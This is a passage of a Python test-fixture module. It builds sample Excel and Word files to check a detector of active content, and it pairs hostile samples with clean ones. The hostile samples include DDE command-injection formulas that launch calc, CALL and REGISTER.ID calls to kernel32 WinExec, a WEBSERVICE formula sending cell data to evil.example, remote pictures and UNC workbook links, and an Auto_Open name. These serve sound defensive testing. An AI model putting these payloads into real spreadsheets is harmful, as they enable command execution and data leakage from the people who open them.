        "DDE in a name": (Active.DDE, book(names="<definedName name=\"a\">cmd|'/C calc'!A0</definedName>")),
        "DDE in a rule": (
            Active.DDE,
            book(
                after="<conditionalFormatting><cfRule><formula>cmd|'/C'!A0</formula></cfRule></conditionalFormatting>"
            ),
        ),
        "DDE in a check of input": (
            Active.DDE,
            book(
                after="<dataValidations><dataValidation><formula1>a|b!c</formula1></dataValidation></dataValidations>"
            ),
        ),
        "DDE link": (
            Active.DDE,
            book(
                rels=relation("externalLink", "externalLinks/externalLink1.xml", outside=False, key="rId2"),
                parts={
                    "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{_SHEET}"><ddeLink ddeService="cmd" '
                    'ddeTopic="/C calc"/></externalLink>'
                },
            ),
        ),
        "linked workbook": (
            Active.WORKBOOK,
            book(
                rels=relation("externalLink", "externalLinks/externalLink1.xml", outside=False, key="rId2"),
                parts={
                    "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{_SHEET}" xmlns:r="{R}">'
                    '<externalBook r:id="rId1"/></externalLink>',
                    "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
                        relation("externalLinkPath", "\\\\evil\\a.xlsx")
                    ),
                },
            ),
        ),
        "workbook on a share in a formula": (Active.WORKBOOK, book(_formula("'\\\\evil\\[a.xlsx]S'!A1"))),
        "web service": (Active.FORMULA, book(_formula('_xlfn.WEBSERVICE("http://evil.example/"&amp;B1)'))),
        "picture of a formula": (Active.FORMULA, book(_formula('_xlfn.IMAGE("http://evil.example/a.png")'))),
        "live data": (Active.FORMULA, book(_formula('RTD("a.b",,"c")'))),
        "call": (Active.FORMULA, book(_formula('CALL("kernel32","WinExec","JCJ","calc",0)'))),
        "DDE function": (Active.FORMULA, book(_formula('DDE("soffice","a.ods","b")'))),
        "registered function": (Active.FORMULA, book(_formula('REGISTER.ID("kernel32","WinExec")'))),
        "web query": (
            Active.CONNECTION,
            book(
                rels=relation("connections", "connections.xml", outside=False, key="rId2"),
                parts={
                    "xl/connections.xml": f'<connections xmlns="{_SHEET}"><connection id="1" name="查询" type="4">'
                    '<webPr url="http://evil.example/"/></connection></connections>'
                },
            ),
        ),
        "query table": (
            Active.CONNECTION,
            book(
                parts={
                    "xl/worksheets/_rels/sheet1.xml.rels": relations(
                        relation("queryTable", "../queryTables/queryTable1.xml", outside=False)
                    )
                }
            ),
        ),
        "hidden query": (
            Active.CONNECTION,
            book(
                parts={
                    "customXml/item1.xml": '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>',
                    "xl/worksheets/_rels/sheet1.xml.rels": relations(
                        relation("customXml", "../../customXml/item1.xml", outside=False)
                    ),
                }
            ),
        ),
        "live function": (
            Active.CONNECTION,
            book(
                parts={
                    "xl/volatileDependencies.xml": f'<volTypes xmlns="{_SHEET}">'
                    '<volType type="realTimeData"/></volTypes>'
                }
            ),
        ),
        "embedded object": (
            Active.OBJECT,
            book(
                after='<oleObjects><oleObject progId="Package" r:id="rId1"/></oleObjects>',
                parts={
                    "xl/worksheets/_rels/sheet1.xml.rels": relations(
                        relation("oleObject", "../embeddings/oleObject1.bin", outside=False)
                    ),
                    "xl/embeddings/oleObject1.bin": b"x",
                },
            ),
        ),
        "control": (
            Active.CONTROL,
            book(
                after='<controls><control r:id="rId1"/></controls>',
                parts={
                    "xl/worksheets/_rels/sheet1.xml.rels": relations(
                        relation("control", "../activeX/activeX1.xml", outside=False)
                    )
                },
            ),
        ),
        "DDE behind a box": (
            Active.DDE,
            book(parts={"xl/drawings/drawing1.xml": "<d><sp textlink=\"cmd|'/C'!A0\"/></d>"}),
        ),
        "name that runs": (Active.MACROS, book(names='<definedName name="_xlnm.Auto_Open">S!A1</definedName>')),
        "remote picture in a drawing that is no XML": (
            Active.PICTURE,
            book(parts={"xl/drawings/vmlDrawing1.vml": "<xml><br><v:imagedata src='http://evil.example/a'/></xml>"}),
        ),
        "two parts of one name": (Active.UNSEEN, book(parts={"xl/Worksheets/sheet1.xml": "<a/>"})),
    }
    return {f"xlsx: {name}": Stranger(content, ".xlsx", found) for name, (found, content) in made.items()}


def clean_documents() -> dict[str, Stranger]:
    """Documents as offices have them."""
    made = {
        "ordinary": _office_document(),
        "ordinary links": word(
            '<w:p><w:hyperlink r:id="rId1"/><w:hyperlink r:id="rId2"/></w:p>',
            relation("hyperlink", "https://www.miit.gov.cn/"),
            relation("hyperlink", "mailto:a@miit.gov.cn", key="rId2"),
        ),
        "ordinary fields": word(
            "".join(
                field(code)
                for code in (
                    "PAGE",
                    " NUMPAGES ",
                    'DATE \\@ "yyyy-M-d"',
                    'TOC \\o "1-3" \\h \\z',
                    "STYLEREF 1",
                    "SEQ 表 \\* ARABIC",
                    "REF _Ref1 \\h",
                    "PAGEREF _Toc1 \\h",
                    'HYPERLINK "https://www.gov.cn/"',
                    'HYPERLINK \\l "_Toc1"',
                    'HYPERLINK "C:\\\\表\\\\a.docx" \\o "注意: a" \\t "_blank"',
                    "MERGEFIELD a",
                    "FORMTEXT",
                    "= 1 + 1",
                    "EQ \\f(1,2)",
                    "SYMBOL 61",
                    "DOCPROPERTY a",
                    "CITATION a",
                )
            )
        ),
        "link field that another completes": word(field('HYPERLINK "https://a/?', field_runs("MERGEFIELD a"), '"')),
        "beginning of all links": _properties(
            "extended-properties", "app", "<Properties><HyperlinkBase>https://www.gov.cn/</HyperlinkBase></Properties>"
        ),
        "field that asks another": word(field("IF ", field_runs("PAGE"), ' = "1" "a" "b"')),
        "words about DDE": word("<w:p><w:r><w:t>DDEAUTO cmd 与 INCLUDETEXT 的说明</w:t></w:r></w:p>"),
        "data of its own": word(
            "<w:p/>",
            relation("customXml", "../customXml/item1.xml", outside=False),
            parts={"customXml/item1.xml": '<a><script src="http://x/"/><connection id="1"/><f>a|b</f></a>'},
        ),
        "picture": word(
            _PICTURE.format("embed"),
            relation("image", "media/a.png", outside=False),
            parts={"word/media/a.png": b"\x89PNG"},
        ),
        "workbook behind a chart": word(
            "<w:p/>",
            relation("package", "embeddings/a.xlsx", outside=False),
            parts={"word/embeddings/a.xlsx": _office_workbook()},
        ),
    }
    books = {
        "ordinary": _office_workbook(),
        "ordinary formulas": book(
            _formula("SUM(B1:C1)")
            + _formula('HYPERLINK("http://a.example/","点此")', "B1")
            + _formula('IF(A1="a|b","\\\\x","http://")', "C1")
            + _formula("'甲|乙'!A1", "D1")
            + _formula("VLOOKUP(A1,表1[列|二],2)", "E1")
            + _formula('HYPERLINK("#\'"&amp;A1&amp;"\'!A1",A1)', "F1")
            + _formula('HYPERLINK("https://a.example/?q="&amp;A1)', "G1")
            + _formula("'it''s \"甲|乙'!A1&amp;\"a\"\"|'\"&amp;表1[[#All],[列|二]]", "H1")
            + _formula('SUM({"a|b","c";1,2},R[-1]C[2])', "I1")
        ),
        "text like a formula": book("<c r='A1' t='inlineStr'><is><t>=cmd|'/C calc'!A0</t></is></c>"),
        "names": book(names='<definedName name="_xlnm.Print_Area">S!$A$1</definedName>'),
        "drawing that is no XML": book(parts={"xl/drawings/vmlDrawing1.vml": "<xml><br><v:shape/></xml>"}),
    }
    return {f"docx: {name}": Stranger(content, ".docx", Active.UNSEEN) for name, content in made.items()} | {
        f"xlsx: {name}": Stranger(content, ".xlsx", Active.UNSEEN) for name, content in books.items()
    }


def _office_document() -> bytes:
    document = docx.Document()
    document.add_heading("关于公布名单的通知", 1)
    paragraph = document.add_paragraph("共34个城市")
    begin = OxmlElement("w:fldSimple")
    begin.set(qn("w:instr"), "PAGE")
    paragraph._p.append(begin)
    document.sections[0].header.paragraphs[0].text = "工业和信息化部"
    document.add_table(2, 2).cell(0, 0).text = "序号"
    file = io.BytesIO()
    document.save(file)
    return file.getvalue()


def _office_workbook() -> bytes:
    file = io.BytesIO()
    with xlsxwriter.Workbook(file, {"in_memory": True}) as workbook:
        sheet = workbook.add_worksheet("名单")
        sheet.write_row(0, 0, ["序号", "城市"])
        sheet.write_formula(1, 0, "=SUM(1,2)")
        sheet.write_url(2, 0, "https://www.miit.gov.cn/")
        sheet.write_comment(0, 0, "批注")
        chart = workbook.add_chart({"type": "bar"})
        assert chart is not None
        chart.add_series({"values": "=名单!$A$2:$A$3"})
        sheet.insert_chart("D2", chart)
    return file.getvalue()


def active() -> dict[str, Stranger]:
    """All that act."""
    return active_pdfs() | active_documents() | active_workbooks()


def clean() -> dict[str, Stranger]:
    """All that do not."""
    return clean_pdfs() | clean_documents()
